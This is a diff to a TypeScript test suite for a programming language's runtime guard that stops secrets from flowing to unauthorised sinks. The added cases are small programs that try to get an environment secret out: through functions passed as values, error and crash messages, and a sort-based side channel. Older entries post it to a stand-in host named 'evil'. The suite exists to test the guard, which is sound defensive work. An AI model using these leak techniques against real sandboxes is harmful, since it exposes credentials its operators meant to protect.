@@ -148,6 +148,17 @@ const ATTACKS: Record<string, string> = {
   "to another host as JSON": 'let r be http.post(evil, json.encode([secret])) otherwise crash with "blocked"',
   "written to a file": 'filesystem.write_text("out/leak.txt", secret) otherwise crash with "blocked"',
   "passed to a process": 'let r be process.run("touch", ["out/{secret}"]) otherwise crash with "blocked"',
+  // Found by attacking the first version: each of these got out.
+  "through a library function as a value": "let encode be json.encode\nconsole.print(encode(secret))",
+  "through list.append as a value": 'let append be list.append\nconsole.print("{append([], secret)}")',
+  "through a library function given to list.map": 'console.print(text.join(list.map([secret], text.upper), ""))',
+  "appended in place by list.append": 'var acc be [""]\nset acc to acc.append(secret)\nconsole.print("{acc}")',
+  "echoed by a failure before any call": 'let r be http.get("x{secret}") otherwise\n  when HttpError.InvalidUrl(url) then crash with url\n  when _ then crash with "other"\nend',
+  "named by a permission failure": 'filesystem.write_text("elsewhere/{secret}", "x") otherwise\n  when FileError.PermissionDenied(path) then console.print(path)\n  when _ then console.print("other")\nend',
+  "named in the scope of a refused call": "let v be environment.get(secret)",
+  "in a division's message": "let n be secret.length() * 1000\nlet z be n / 0",
+  "in an index's message": "let xs be [1]\nlet x be xs[secret.length() * 1000]",
+  "ordered by a query's sort": 'let alphabet be "abcdefghijklmnopqrstuvwxyz0123456789"\nvar out be ""\nfor each ch in secret.characters()\n  let s be alphabet.index_of(ch).or_else(0)\n  let best be from c in alphabet.characters() sort by math.abs(alphabet.index_of(c).or_else(0) - s) select c\n  set out to out + best.first().or_else("?")\nend\nconsole.print(out)',
 };
 
 /** Flows to the granted sink (and decisions, which carry no origin): each must work. */
@@ -158,6 +169,7 @@ const ALLOWED: Record<string, { body: string; heard?: (h: Heard) => boolean; std
   "a decision about it printed": { body: 'console.print("set: {not secret.is_empty()}")', stdout: /^set: true\n$/ },
   // The limit the seed states: control flow is not followed, so the number of a loop's turns is a decision, not data.
   "an implicit flow, counting a loop's turns (not followed, as stated)": { body: "var count be 0\nfor each i in 1 to secret.length()\n  set count to count + 1\nend\nconsole.print(\"{count}\")", stdout: /^11\n$/ },
+  "library functions as values, on data with no origin": { body: 'let p be console.print\np("{list.map(["a"], text.upper)}")', stdout: /^\["A"\]\n$/ },
   "unrelated work printed": { body: 'let n be 6 * 7\nconsole.print("{n} {[1, 2].length()}")', stdout: /^42 2\n$/ },
 };
 
@@ -210,7 +222,8 @@ test("without the guard, the same programs do get the secret out: each attack ab
     const socket = await freePort();
     const ran = await startProgram(work, PROGRAM("environment", body, socket, false), { env: { SECRET } }).done;
     // Each attack's only output is what it derived from the secret: printed at all, it got out.
-    const got = (ran.status === 0 && ran.stdout !== "") || leaked(ran.stderr) || evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) || outFiles().length > 0;
+    // (The secret has 11 characters: a crash that shows 11,000 shows its length.)
+    const got = (ran.status === 0 && ran.stdout !== "") || leaked(ran.stderr) || /\b11000\b/.test(ran.stderr) || evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) || outFiles().length > 0;
     assert.ok(got, `${name}: nothing left without the guard either: ${ran.stdout} ${ran.stderr}`);
     leaks++;
   });
@@ -345,3 +358,31 @@ function runIn(dir: string, args: readonly string[], env: Record<string, string>
     child.on("close", (status) => resolve({ status, stdout, stderr }));
   });
 }
+
+test("a failure wrapped by otherwise fail keeps the origins of what it wraps", async () => {
+  const file = `type AppError is variant
+  Parse(error: ParseError)
+end
+
+public function main() or fails with AppError
+  purpose: Fail with a wrapped failure made of the secret.
+  needs environment("SECRET") only to network.http("127.0.0.1")
+  let secret be environment.get("SECRET").or_else("")
+  let n be secret.to_int() otherwise fail
+end
+`;
+  const ran = await startProgram(work, file, { env: { SECRET } }).done;
+  assert.equal(ran.status, 2, ran.stderr);
+  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
+  assert.match(ran.stderr, /error\[E-RT-GUARD\]: the failure it ended with was refused/);
+});
+
+test("the execution record names no scope made of guarded data", async () => {
+  const socket = await freePort();
+  const ran = await startProgram(work, PROGRAM("environment", 'let r be http.get("{sink}/{secret}") otherwise crash with "refused"', socket), { env: { SECRET }, before: ["--json"] }).done;
+  assert.equal(ran.status, 0, ran.stderr);
+  const record = JSON.parse(ran.stdout.trim().split("\n").at(-1)!) as { hostCalls: { operation: string; target?: string }[] };
+  const get = record.hostCalls.find((c) => c.operation === "std.http.get")!;
+  assert.equal(get.target, undefined);
+  assert.ok(!leaked(ran.stdout), ran.stdout);
+});
